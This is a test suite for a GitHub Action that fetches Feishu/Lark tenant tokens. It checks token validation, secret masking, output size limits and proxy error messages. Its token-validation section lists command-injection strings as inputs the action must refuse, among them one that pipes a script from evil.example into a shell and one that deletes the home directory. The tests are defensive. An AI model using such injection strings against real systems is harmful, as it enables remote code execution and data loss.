// Hardening, round 3: what a hostile or huge answer, or an unlucky proxy setting, could still do. The built bundle,
// run as the runner runs it (set ACTION_BUNDLE to run these against another build).
import net from 'node:net'
import tls from 'node:tls'
import { startConnectProxy } from '../harness/connect-proxy.js'
import { runAction } from '../harness/run-action.js'
import { type Sandbox, type SandboxScope, TEST_APP, TEST_CA_FILE, faults, startSandbox, testCertificate } from '../harness/sandbox.js'
import { run } from '../src/main.js'
import { testDeps } from './support/deps.js'
import { fakeCore } from './support/fake-core.js'
import { findLeaks } from './support/leaks.js'

const creds = { 'app-id': TEST_APP.appId, 'app-secret': TEST_APP.appSecret }
const closing: Array<{ close(): unknown }> = []
afterEach(async () => {
  for (const server of closing.splice(0).reverse()) await server.close()
})
async function sandboxWith(options: Parameters<typeof startSandbox>[0] = {}): Promise<Sandbox> {
  const sandbox = await startSandbox(options)
  closing.push(sandbox)
  return sandbox
}
/** A TCP server on loopback that answers each connection with `answer` (or nothing), for proxies that are not. */
async function listener(onConnection: (socket: net.Socket) => void, server: net.Server = net.createServer()): Promise<number> {
  const sockets = new Set<net.Socket>()
  server.on(server instanceof tls.Server ? 'secureConnection' : 'connection', onConnection)
  server.on('connection', socket => {
    sockets.add(socket)
    socket.on('error', () => undefined)
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  closing.push({
    close: () =>
      new Promise(resolve => {
        for (const socket of sockets) socket.destroy()
        server.close(resolve)
      })
  })
  return (server.address() as net.AddressInfo).port
}

describe('3. the token is a Bearer token, or the answer is malformed', () => {
  it.each([
    't-$(curl evil.example|sh)',
    't-`id`',
    't-abc;rm -rf ~',
    't-"quoted"',
    "t-'quoted'",
    't-a|b',
    't-a&b',
    't-<b>',
    't-a\\b',
    't-a=b'
  ])('%s is refused, never masked, exported or output', async token => {
    const sandbox = await sandboxWith()
    sandbox.failNext(faults.json(200, { code: 0, msg: 'ok', tenant_access_token: token, expire: 7200 }))
    const result = await runAction({ inputs: { ...creds, 'base-url': sandbox.url, 'export-env': 'true' } })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([
      expect.stringMatching(
        /^Could not get a tenant access token: .*'tenant_access_token' has characters a token cannot have \(a Bearer token holds only letters, digits, - \. _ ~ \+ \/ and a trailing =\)/
      )
    ])
    expect(result.outputs).toEqual({})
    expect(result.files.env).toBe('')
    expect(result.commands.filter(([c]) => c === 'add-mask')).toEqual([['add-mask', TEST_APP.appSecret]])
    expect(result.stdout + result.summary).not.toContain(token.slice(2))
  })

  it.each([
    ['letters, digits and - . _ ~ + /', 't-abc.DEF_123~+/xyz'],
    ['a trailing =', 't-abc0123456789abcdef=='],
    ['a 10 KB JWT', `eyJ${'a'.repeat(5000)}.eyJ${'b'.repeat(5000)}.c-_`]
  ])('accepts a token of %s', async (_what, token) => {
    const sandbox = await sandboxWith()
    sandbox.failNext(faults.json(200, { code: 0, msg: 'ok', tenant_access_token: token, expire: 7200 }))
    const result = await runAction({ inputs: { ...creds, 'base-url': sandbox.url } })
    expect(result.exitCode).toBe(0)
    expect(result.outputs.token).toBe(token)
  })
})

describe('4. the token is masked the moment it is parsed, before any line about its answer', () => {
  const TOKEN = 't-5e1f0a9c3b7d2e4f6a8c0b1d3e5f7a9c'
  it.each([
    ['a log id header that is the token', { 'x-tt-logid': TOKEN }],
    ['a log id header that ends with the token past the 200-character cut', { 'x-tt-logid': `${'L'.repeat(190)}${TOKEN}` }],
    ['a request id header that is the token', { 'x-request-id': TOKEN }]
  ])('%s: masked first, then printed as ***', async (_what, headers) => {
    const sandbox = await sandboxWith()
    sandbox.failNext((_req, res) => {
      res.removeHeader('x-tt-logid')
      faults.json(200, { code: 0, msg: 'ok', tenant_access_token: TOKEN, expire: 7200 }, headers)(_req, res)
    })
    const result = await runAction({ inputs: { ...creds, 'base-url': sandbox.url }, env: { RUNNER_DEBUG: '1' } })
    expect(result.exitCode).toBe(0)
    expect(findLeaks(result, [TEST_APP.appSecret, TOKEN])).toEqual([])
    const { lines } = result
    const masked = lines.indexOf(`::add-mask::${TOKEN}`)
    const debugLine = lines.findIndex(line => line.startsWith('::debug::POST '))
    expect(masked).toBeGreaterThan(-1)
    expect(debugLine).toBeGreaterThan(masked)
    expect(lines[debugLine]).toMatch(/log id (L+)?\*\*\*$/)
  })
})

describe('5. a huge scopes answer: the summary, the annotations and the outputs stay within GitHub limits', () => {
  // About 950 KB of scopes, under the 1 MiB body limit: every one granted for the app, none required.
  const many: SandboxScope[] = Array.from({ length: 9500 }, (_, n) => ({
    scope_name: `drive:a_scope_name_that_is_long_enough_${String(n).padStart(6, '0')}`,
    grant_status: 1,
    scope_type: 'tenant'
  }))

  it('cuts every list it shows to its first rows, keeps the outputs within 512 KiB, and says what it cut', async () => {
    const sandbox = await sandboxWith({ apps: [{ ...TEST_APP, scopes: [...many, { scope_name: 'im:message', grant_status: 1 }] }] })
    const result = await runAction({
      inputs: { ...creds, 'base-url': sandbox.url, 'required-scopes': 'im:message', 'on-unexpected-scopes': 'warn' }
    })
    expect(result.exitCode).toBe(0)
    expect(Buffer.byteLength(result.summary)).toBeLessThan(64 * 1024)
    expect(result.summary).toContain('| and 9400 more | the `unexpected-scopes` output lists them |')
    expect(result.summary).toContain('## Feishu/Lark tenant token: ⚠️ Token issued, unexpected scopes')
    for (const warning of result.warnings) expect(Buffer.byteLength(warning)).toBeLessThan(32 * 1024)
    expect(result.warnings.find(warning => warning.startsWith('9500 scopes are configured'))).toMatch(
      /^9500 scopes are configured on app .*\n(- drive:.*\n){100}- and 9400 more: the 'unexpected-scopes' output lists them\n/
    )
    const outputBytes = Object.entries(result.outputs).reduce(
      (sum, [name, value]) => sum + Buffer.byteLength(name) + Buffer.byteLength(value),
      0
    )
    expect(outputBytes).toBeLessThanOrEqual(512 * 1024)
    const granted = JSON.parse(result.outputs['granted-scopes']!) as string[]
    const unexpected = JSON.parse(result.outputs['unexpected-scopes']!) as string[]
    expect(granted.length).toBeLessThan(9501)
    expect(unexpected.length).toBeLessThan(9500)
    expect(unexpected).toEqual(many.slice(0, unexpected.length).map(s => s.scope_name))
    expect(result.warnings).toContainEqual(
      `The 'granted-scopes' output holds the first ${granted.length} of its 9501 scopes (sorted): all outputs of a job share GitHub's 1 MiB, and the action keeps its own within 512 KiB.`
    )
    expect(result.warnings).toContainEqual(expect.stringMatching(/^The 'unexpected-scopes' output holds the first \d+ of its 9500 scopes/))
    expect(result.outputs['missing-scopes']).toBe('[]')
  })

  it('names longer than a scope name can be are left out, and the required scopes table is cut too', async () => {
    const required = Array.from({ length: 150 }, (_, n) => `docx:scope_${n}`)
    const sandbox = await sandboxWith({
      apps: [{ ...TEST_APP, scopes: [{ scope_name: `a:${'b'.repeat(200_000)}`, grant_status: 1 }, ...TEST_APP.scopes!] }]
    })
    const result = await runAction({
      inputs: { ...creds, 'base-url': sandbox.url, 'required-scopes': required.join(' '), 'on-missing-scopes': 'warn' }
    })
    expect(result.exitCode).toBe(0)
    expect(result.files.output).not.toContain('bbbbbbbbbb')
    expect(result.summary).toContain('| and 50 more | the `missing-scopes` output lists the missing ones |')
    expect(result.summary).toContain('**[Grant the first 100 missing scopes](')
    expect(result.warnings[0]).toContain("- and 50 more: the 'missing-scopes' output lists them\nGrant the first 100 in one click: ")
    expect(JSON.parse(result.outputs['missing-scopes']!)).toHaveLength(150)
  })
})

describe('6. proxy faults name the proxy and its variable, not the API server', () => {
  const viaProxy = (proxyUrl: string, more: Record<string, string> = {}) =>
    runAction({
      inputs: { ...creds, 'base-url': 'https://feishu-sandbox.invalid', 'max-attempts': '1', ...more },
      env: { HTTPS_PROXY: proxyUrl, NODE_EXTRA_CA_CERTS: TEST_CA_FILE }
    })

  it('a port that does not speak HTTP', async () => {
    const port = await listener(socket => socket.end('SSH-2.0-OpenSSH_9.6\r\n'))
    const result = await viaProxy(`http://ci-bot:s3cretpw@127.0.0.1:${port}`)
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([
      expect.stringMatching(
        new RegExp(
          `^Could not get a tenant access token: the proxy 127\\.0\\.0\\.1:${port} \\(from HTTPS_PROXY\\) did not answer CONNECT as an HTTP proxy does .*Check that HTTPS_PROXY points at the port of an HTTP\\(S\\) proxy`
        )
      )
    ])
    expect(result.errors[0]).not.toMatch(/base-url|feishu-sandbox\.invalid sent/)
    expect(result.stdout + result.summary).not.toMatch(/s3cretpw|ci-bot/)
  })

  it('an https:// proxy whose certificate cannot be verified', async () => {
    const port = await listener(() => undefined, tls.createServer(testCertificate()))
    const result = await runAction({
      inputs: { ...creds, 'base-url': 'https://feishu-sandbox.invalid', 'max-attempts': '1' },
      env: { HTTPS_PROXY: `https://127.0.0.1:${port}` }
    })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([
      expect.stringMatching(
        new RegExp(
          `^Could not get a tenant access token: the TLS certificate of the proxy 127\\.0\\.0\\.1:${port} \\(from HTTPS_PROXY\\) could not be verified\\. Check that HTTPS_PROXY`
        )
      )
    ])
    expect(result.errors[0]).not.toContain('feishu-sandbox.invalid could not be verified')
  })

  it('a proxy that never answers CONNECT: each attempt says so, and so does the error', async () => {
    const sandbox = await sandboxWith({ tls: true })
    const proxy = await startConnectProxy({ host: '127.0.0.1', port: sandbox.port }, { blackHole: () => true })
    closing.push(proxy)
    const result = await viaProxy(proxy.url, { 'attempt-timeout-seconds': '1', 'timeout-seconds': '4', 'max-attempts': '2' })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toMatch(/Attempt 1 of 2 failed: no tunnel from the proxy in time\. Retrying in/)
    expect(result.errors).toEqual([
      expect.stringMatching(
        new RegExp(
          `^Could not get a tenant access token: the proxy 127\\.0\\.0\\.1:${proxy.port} \\(from HTTPS_PROXY\\) did not open a tunnel to feishu-sandbox\\.invalid within 1 s, .*Check that HTTPS_PROXY names a proxy that is up`
        )
      )
    ])
  })

  it('a proxy that refuses the credentials names the variable they came from', async () => {
    const sandbox = await sandboxWith({ tls: true })
    const proxy = await startConnectProxy({ host: '127.0.0.1', port: sandbox.port }, { credentials: 'ci-bot:right' })
    closing.push(proxy)
    const result = await runAction({
      inputs: { ...creds, 'base-url': 'https://feishu-sandbox.invalid' },
      env: { https_proxy: `http://ci-bot:wr0ng@127.0.0.1:${proxy.port}`, NODE_EXTRA_CA_CERTS: TEST_CA_FILE }
    })
    expect(result.errors[0]).toMatch(/\(HTTP 407, proxy authentication required\)\. Check the user name and password in https_proxy/)
  })
})

describe('7. the words fit what happened', () => {
  it('an answer with no numeric code says so, not "answered code 0"', async () => {
    const sandbox = await sandboxWith()
    sandbox.failNext(faults.json(200, { msg: 'ok', tenant_access_token: 't-abc', expire: 7200 }))
    const result = await runAction({ inputs: { ...creds, 'base-url': sandbox.url } })
    expect(result.errors).toEqual([
      expect.stringMatching(
        /^Could not get a tenant access token: the server at .* answered with JSON that has no numeric 'code', so it is not an Open Platform answer/
      )
    ])
    expect(result.errors[0]).not.toContain('code 0')
  })

  it.each([
    [
      'rate limited',
      faults.rateLimited(1),
      /rate limited\. Too many requests for this app right now, and this request is sent once and never retried: run the workflow again later, or ask the tenant admin directly\./
    ],
    [
      'stalled',
      faults.hang(),
      /did not answer within 1 s, the limit for one attempt .* This request is sent once and never retried: run the workflow again later, or raise 'attempt-timeout-seconds'\./
    ]
  ])('an approval request that was %s is not told to raise max-attempts: it is sent once', async (_what, fault, words) => {
    const sandbox = await sandboxWith()
    sandbox.failNext(faults.pass(), faults.pass(), fault)
    const core = fakeCore({
      ...creds,
      'base-url': sandbox.url,
      'required-scopes': 'bitable:app',
      'request-approval': 'true',
      'attempt-timeout-seconds': '1'
    })
    await run(testDeps(core))
    const warnings = core.events.flatMap(e => (e.type === 'warning' ? [e.message] : []))
    expect(warnings).toEqual([expect.stringMatching(words)])
    expect(warnings[0]).not.toContain('max-attempts')
    expect(sandbox.requests.filter(r => r.path === '/open-apis/application/v6/scopes/apply')).toHaveLength(1)
  })
})
